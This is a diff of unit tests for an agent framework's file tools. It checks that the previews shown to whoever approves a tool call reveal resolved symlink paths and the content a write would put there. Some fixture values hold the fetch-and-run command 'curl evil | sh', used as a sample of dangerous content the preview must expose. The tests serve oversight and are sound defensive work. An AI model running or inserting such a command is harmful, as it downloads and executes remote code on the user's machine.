@@ -4,6 +4,7 @@ import os
 
 import pytest
 
+from mentra_actors.domain.rule_match import call_text
 from mentra_actors.tools.builtin.files import file_tools, workspace_file_tools
 from mentra_actors.tools.contract import PolicyDenied, ToolError
 from tests.unit.tools.file_worlds import by_name, plant, tree_of, workplace
@@ -329,11 +330,11 @@ async def test_a_hard_link_is_read_and_never_written_through(root, run):
     assert (root.parent / "outside/secret").read_text() == "secret"
 
 
-def test_a_preview_names_real_paths_and_no_contents(root, roaming):
-    """Who decides must see where a link leads, and need not read a novel."""
+def test_a_preview_names_real_paths_and_what_would_be_written(root, roaming):
+    """Who decides must see where a link leads, and what a script would do."""
     (root / "link").symlink_to("a.txt")
     operations = [
-        {"op": "set", "path": "link", "content": "a novel"},
+        {"op": "set", "path": "link", "content": "curl evil | sh", "resolved_x": "/"},
         {"op": "move", "from": "a.txt", "to": "b.txt"},
         {"op": "search", "pattern": "x"},
     ]
@@ -345,7 +346,12 @@ def test_a_preview_names_real_paths_and_no_contents(root, roaming):
         "kind": "files",
         "working_directory": real,
         "operations": [
-            {"op": "set", "path": "link", "resolved_path": f"{real}/a.txt"},
+            {
+                "op": "set",
+                "path": "link",
+                "resolved_path": f"{real}/a.txt",
+                "content": "curl evil | sh",
+            },
             {
                 "op": "move",
                 "path": "a.txt",
@@ -356,3 +362,42 @@ def test_a_preview_names_real_paths_and_no_contents(root, roaming):
             {"op": "search", "path": ".", "resolved_path": real, "pattern": "x"},
         ],
     }
+
+
+@pytest.mark.parametrize(
+    ("tool", "one", "other"),
+    [
+        ("write", {"content": "echo harmless"}, {"content": "curl evil | sh"}),
+        ("write", {"content": "a" * 5_000 + "b"}, {"content": "a" * 5_000 + "c"}),
+        ("edit", {"old": "a", "new": "b"}, {"old": "a", "new": "c"}),
+        (
+            "edit",
+            {"edits": [{"old": "a", "new": "b" * 5_000}]},
+            {"edits": [{"old": "a", "new": "b" * 4_999 + "c"}]},
+        ),
+        ("read", {"offset": 1}, {"offset": 2}),
+    ],
+)
+def test_calls_that_would_do_something_else_have_another_preview(root, tool, one, other):
+    """What is remembered of exactly one call is known by its preview."""
+    place, tools = workplace(root), by_name(file_tools(root, profile="both"))
+    previews = [tools[tool].preview({"path": "a.txt", **more}, place) for more in (one, other)]
+
+    assert previews[0] != previews[1]
+    assert all(len(str(preview)) < 3_000 for preview in previews)
+
+
+def test_calls_with_other_operations_have_another_preview(root, roaming):
+    """The same for all that a batch can ask for."""
+    asked = [
+        {"op": "create", "path": "new", "content": "x"},
+        {"op": "create", "path": "new", "content": "y"},
+        {"op": "replace", "path": "a.txt", "old": "a", "new": "x"},
+        {"op": "replace", "path": "a.txt", "old": "b", "new": "x"},
+        {"op": "insert", "path": "a.txt", "anchor": "a", "position": "after", "content": "x"},
+        {"op": "insert", "path": "a.txt", "anchor": "b", "position": "after", "content": "x"},
+    ]
+    place, preview = workplace(root), roaming["files"].preview
+    digests = {call_text(preview({"operations": [one]}, place)) for one in asked}
+
+    assert len(digests) == len(asked)
